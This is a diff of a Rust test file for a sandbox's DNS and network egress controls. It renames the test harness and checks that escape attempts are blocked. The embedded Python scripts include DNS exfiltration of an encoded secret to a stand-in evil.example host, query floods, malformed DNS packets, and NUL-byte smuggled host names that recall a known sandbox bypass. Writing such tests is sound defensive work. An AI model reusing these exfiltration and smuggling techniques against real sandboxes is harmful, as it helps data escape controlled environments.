@@ -2,27 +2,12 @@
 
 use serde_json::json;
 
-use crate::{
-    rig::{Rig, denials, syn},
-    tests,
-};
+use crate::{egress::testbed::Testbed, egress::testbed::denials, egress::testbed::syn, support::runner::test};
 
-tests![
-    no_question_of_the_sandbox_leaves_it,
-    questions_over_tcp_are_answered_like_datagrams,
-    questions_cost_the_gate_no_more_than_its_budget,
-    an_address_that_stands_for_a_name_leads_nowhere_else,
-    the_hosts_own_files_and_servers_are_asked,
-    an_answer_that_is_cut_is_asked_for_over_tcp,
-    a_name_that_does_not_exist_is_a_failure_and_no_denial,
-    a_flood_of_names_is_refused_and_does_not_leave,
-    nonsense_on_the_name_service_harms_nobody,
-    a_name_with_a_nul_byte_is_no_other_name,
-];
-
+test!(Both, no_question_of_the_sandbox_leaves_it, seconds 90);
 fn no_question_of_the_sandbox_leaves_it() {
-    let mut rig = Rig::new();
-    rig.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
+    let mut testbed = Testbed::new();
+    testbed.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
     let script = "def ask(server, name, kind):
     s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(2)
@@ -33,14 +18,15 @@ fn no_question_of_the_sandbox_leaves_it() {
 secret = 'c2VjcmV0' * 7 + '.x.evil.example'
 for server in ('198.19.255.253', '8.8.8.8', '10.0.5.7', '127.0.0.53', '2001:4860:4860::8888', '::1'):
     say([ask(server, secret, kind) for kind in (1, 16, 10, 255)], ask(server, 'api.internal', 1), ask(server, 'api.internal', 28), ask(server, 'api.internal', 65))";
-    let ran = rig.run(&["api.internal:443"], script);
+    let ran = testbed.run(&["api.internal:443"], script);
     assert_eq!(ran.output, "[(3, 0), (3, 0), (3, 0), (3, 0)] (0, 1) (0, 0) (0, 0)\n".repeat(6), "{ran:?}");
-    assert_eq!(rig.packets(), []);
+    assert_eq!(testbed.packets(), []);
     assert_eq!((&ran.egress["denied"][0]["count"], &ran.egress["denied"][0]["reason"]), (&json!(24), &json!("no_rule")), "{ran:?}");
 }
 
+test!(Both, questions_over_tcp_are_answered_like_datagrams, seconds 90);
 fn questions_over_tcp_are_answered_like_datagrams() {
-    let mut rig = Rig::new();
+    let mut testbed = Testbed::new();
     let script = "s = dial('9.9.9.9', 53)
 for name in ('api.internal', 'evil.example'):
     asked = question(name)
@@ -55,15 +41,16 @@ s = dial('10.0.5.7', 53); s.sendall(b'\\xff\\xff' + b'x' * 3000); time.sleep(.1)
 try: say(s.recv(10))
 except OSError as error: say(word(error))
 say(attempt('9.9.9.9', 853), attempt('9.9.9.9', 443))";
-    let ran = rig.run(&["api.internal:443", "10.0.5.7:1-52,54-65535"], script);
+    let ran = testbed.run(&["api.internal:443", "10.0.5.7:1-52,54-65535"], script);
     assert_eq!(ran.output, "0 1\n3 0\nTrue\nb''\nECONNRESET\nECONNREFUSED ECONNREFUSED\n", "{ran:?}");
-    assert_eq!(rig.packets(), []);
+    assert_eq!(testbed.packets(), []);
 }
 
+test!(Both, questions_cost_the_gate_no_more_than_its_budget, seconds 90);
 /// Answers cost the host's CPU: a thousand a second over TCP, and about as many as datagrams,
 /// to the sandbox's own addresses too. The control: a few are all answered.
 fn questions_cost_the_gate_no_more_than_its_budget() {
-    let mut rig = Rig::new();
+    let mut testbed = Testbed::new();
     let script = "one = question('api.internal')
 framed = struct.pack('!H', len(one)) + one
 def stream(count):
@@ -97,52 +84,57 @@ time.sleep(1.1)
 say(stream(20000) <= 2000)
 answered = datagrams(True)
 say(20 < answered <= 4500)";
-    let ran = rig.run(&["api.internal:443"], script);
+    let ran = testbed.run(&["api.internal:443"], script);
     assert_eq!(ran.output, "True\nTrue\nTrue\n", "{ran:?}");
-    assert_eq!(rig.packets(), []);
+    assert_eq!(testbed.packets(), []);
 }
 
+test!(Both, an_address_that_stands_for_a_name_leads_nowhere_else, seconds 90);
 fn an_address_that_stands_for_a_name_leads_nowhere_else() {
-    let mut rig = Rig::new();
-    rig.listen("echo", &[443]);
+    let mut testbed = Testbed::new();
+    testbed.listen("echo", &[443]);
     let script = "say(attempt('198.18.0.9', 443), attempt('198.19.255.253', 443))";
-    let ran = rig.run(&["api.internal:443"], script);
+    let ran = testbed.run(&["api.internal:443"], script);
     assert_eq!(ran.output, "ECONNREFUSED ECONNREFUSED\n");
     assert_eq!(denials(&ran), ["connect 198.18.0.9 443 unknown_address", "connect 198.19.255.253 443 unknown_address"]);
-    assert_eq!(rig.packets(), []);
+    assert_eq!(testbed.packets(), []);
 }
 
+test!(Both, the_hosts_own_files_and_servers_are_asked, seconds 90);
 fn the_hosts_own_files_and_servers_are_asked() {
-    let mut rig = Rig::new();
-    rig.listen("echo", &[443]);
-    rig.zone(json!({"slow.internal": {"a": [["203.0.113.8"]], "delay": 1.2}, "only6.internal": {"aaaa": [["2001:db8:9::9"]]}}));
+    let mut testbed = Testbed::new();
+    testbed.listen("echo", &[443]);
+    testbed.zone(json!({"slow.internal": {"a": [["203.0.113.8"]], "delay": 1.2}, "only6.internal": {"aaaa": [["2001:db8:9::9"]]}}));
     let script = "say(attempt('hosts.internal', 443), attempt('slow.internal', 443, 10), attempt('only6.internal', 443))";
-    let ran =
-        rig.run(&["hosts.internal:443", "slow.internal:443", "only6.internal:443", "203.0.113.0/24:443", "[2001:db8:9::/64]:443"], script);
+    let ran = testbed
+        .run(&["hosts.internal:443", "slow.internal:443", "only6.internal:443", "203.0.113.0/24:443", "[2001:db8:9::/64]:443"], script);
     assert_eq!(ran.output, "connected connected connected\n", "{ran:?}");
     // The SYN was repeated while the name was looked up; the peer was dialled once.
-    assert_eq!(rig.packets_but_dns(), [syn("203.0.113.9", 443), syn("203.0.113.8", 443), syn("2001:db8:9::9", 443)]);
+    assert_eq!(testbed.packets_but_dns(), [syn("203.0.113.9", 443), syn("203.0.113.8", 443), syn("2001:db8:9::9", 443)]);
 }
 
+test!(Both, an_answer_that_is_cut_is_asked_for_over_tcp, seconds 90);
 fn an_answer_that_is_cut_is_asked_for_over_tcp() {
-    let mut rig = Rig::new();
-    rig.listen("echo", &[443]);
-    rig.zone(json!({"long.internal": {"a": [["203.0.113.8"]], "cut": true}}));
-    assert_eq!(rig.run(&["long.internal:443"], "say(attempt('long.internal', 443))").output, "connected\n");
-    assert!(rig.packets().contains(&syn("10.0.5.7", 53)), "{:?}", rig.packets());
+    let mut testbed = Testbed::new();
+    testbed.listen("echo", &[443]);
+    testbed.zone(json!({"long.internal": {"a": [["203.0.113.8"]], "cut": true}}));
+    assert_eq!(testbed.run(&["long.internal:443"], "say(attempt('long.internal', 443))").output, "connected\n");
+    assert!(testbed.packets().contains(&syn("10.0.5.7", 53)), "{:?}", testbed.packets());
 }
 
+test!(Both, a_name_that_does_not_exist_is_a_failure_and_no_denial, seconds 90);
 fn a_name_that_does_not_exist_is_a_failure_and_no_denial() {
-    let mut rig = Rig::new();
-    let ran = rig.run(&["gone.internal:443"], "say(attempt('gone.internal', 443))");
+    let mut testbed = Testbed::new();
+    let ran = testbed.run(&["gone.internal:443"], "say(attempt('gone.internal', 443))");
     assert_eq!(ran.output, "EHOSTUNREACH\n");
     assert_eq!((&ran.egress["failed"][0]["error"], &ran.egress["denied"]), (&json!("ENOTFOUND"), &json!([])));
 }
 
+test!(Both, a_flood_of_names_is_refused_and_does_not_leave, seconds 90);
 fn a_flood_of_names_is_refused_and_does_not_leave() {
-    let mut rig = Rig::new();
-    rig.listen("echo", &[443]);
-    rig.zone(json!({"api.hosted.example": {"a": [["203.0.113.5"]]}}));
+    let mut testbed = Testbed::new();
+    testbed.listen("echo", &[443]);
+    testbed.zone(json!({"api.hosted.example": {"a": [["203.0.113.5"]]}}));
     let script = "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('8.8.8.8', 53)); found = refused = 0
 for number in range(10000):
     try: s.send(question('n%d.hosted.example' % number)); answer = s.recv(999); found += answer[7]
@@ -150,18 +142,19 @@ for number in range(10000):
 say(found, refused > 0); time.sleep(1)
 say(attempt('api.hosted.example', 443))
 time.sleep(.2)";
-    let ran = rig.run(&["*.hosted.example:443"], script);
+    let ran = testbed.run(&["*.hosted.example:443"], script);
     // Thirty a minute, and none for the last one any more.
     assert_eq!(ran.output, "30 True\nEAI_-2\n", "{ran:?}");
-    assert_eq!(rig.packets(), []);
+    assert_eq!(testbed.packets(), []);
     assert!(ran.egress["truncated"].as_bool().unwrap());
-    assert_eq!(rig.run(&["api.hosted.example:443"], "say(attempt('api.hosted.example', 443))").output, "connected\n");
+    assert_eq!(testbed.run(&["api.hosted.example:443"], "say(attempt('api.hosted.example', 443))").output, "connected\n");
 }
 
-fn nonsense_on_the_name_service_harms_nobody() {
-    let mut rig = Rig::new();
-    rig.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
-    rig.listen("echo", &[443]);
+test!(Both, malformed_dns_does_no_harm, seconds 90);
+fn malformed_dns_does_no_harm() {
+    let mut testbed = Testbed::new();
+    testbed.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
+    testbed.listen("echo", &[443]);
     let script = "import random
 random.seed(7)
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', 53)); good = question('api.internal')
@@ -175,18 +168,19 @@ for last in (b'', b'x' * 60000):
     except OSError: pass
 time.sleep(2)
 say(attempt('api.internal', 443))";
-    assert_eq!(rig.run(&["api.internal:443"], script).output, "connected\n");
-    assert_eq!(rig.packets_but_dns(), [syn("10.0.5.7", 443)]);
+    assert_eq!(testbed.run(&["api.internal:443"], script).output, "connected\n");
+    assert_eq!(testbed.packets_but_dns(), [syn("10.0.5.7", 443)]);
 }
 
+test!(Both, a_name_with_a_nul_byte_is_no_other_name, seconds 90);
 /// srt's way out by the host `evil.example\0.api.internal`: what judged it went by its end, and
 /// what looked it up stopped at the NUL. Here a name is a value that cannot hold one, the one
 /// that is judged is the one that is looked up, and the address that came of it is what is
 /// dialled.
 fn a_name_with_a_nul_byte_is_no_other_name() {
-    let mut rig = Rig::new();
-    rig.listen("mute", &[8443]);
-    rig.zone(json!({"www.api.internal": {"a": [["203.0.113.5"]]}, "evil.example": {"a": [["203.0.113.66"]]}}));
+    let mut testbed = Testbed::new();
+    testbed.listen("mute", &[8443]);
+    testbed.zone(json!({"www.api.internal": {"a": [["203.0.113.5"]]}, "evil.example": {"a": [["203.0.113.66"]]}}));
     let script = "def ask(*labels):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('9.9.9.9', 53))
     s.send(struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in labels) + struct.pack('!BHH', 0, 1, 1))
@@ -203,13 +197,13 @@ inner = b'evil.example\\0.api.internal'
 say(tell(b'GET / HTTP/1.1\\r\\nHost: ' + inner + b':8443\\r\\n\\r\\n'))
 say(tell(hello('evil-example-.api.internal').replace(b'evil-example-', b'evil.example\\0')))
 say(tell(b'GET / HTTP/1.1\\r\\nHost: www.api.internal:8443\\r\\n\\r\\n'))";
-    let ran = rig.run(&["*.api.internal:8443"], script);
+    let ran = testbed.run(&["*.api.internal:8443"], script);
     assert_eq!(ran.output, format!("{}False 1\nECONNRESET\nECONNRESET\nhang\n", "True 0\n".repeat(4)), "{ran:?}");
     // The control is what the peer heard: the one that names it, and of the others nothing.
-    let heard = rig.heard(8443);
+    let heard = testbed.heard(8443);
     assert!(
         heard.iter().filter(|heard| heard.contains("evil")).count() == 0 && heard.iter().any(|heard| heard.contains("www")),
         "{heard:?}"
     );
-    assert!(rig.packets_but_dns().iter().all(|packet| *packet == syn("203.0.113.5", 8443)), "{:?}", rig.packets());
+    assert!(testbed.packets_but_dns().iter().all(|packet| *packet == syn("203.0.113.5", 8443)), "{:?}", testbed.packets());
 }
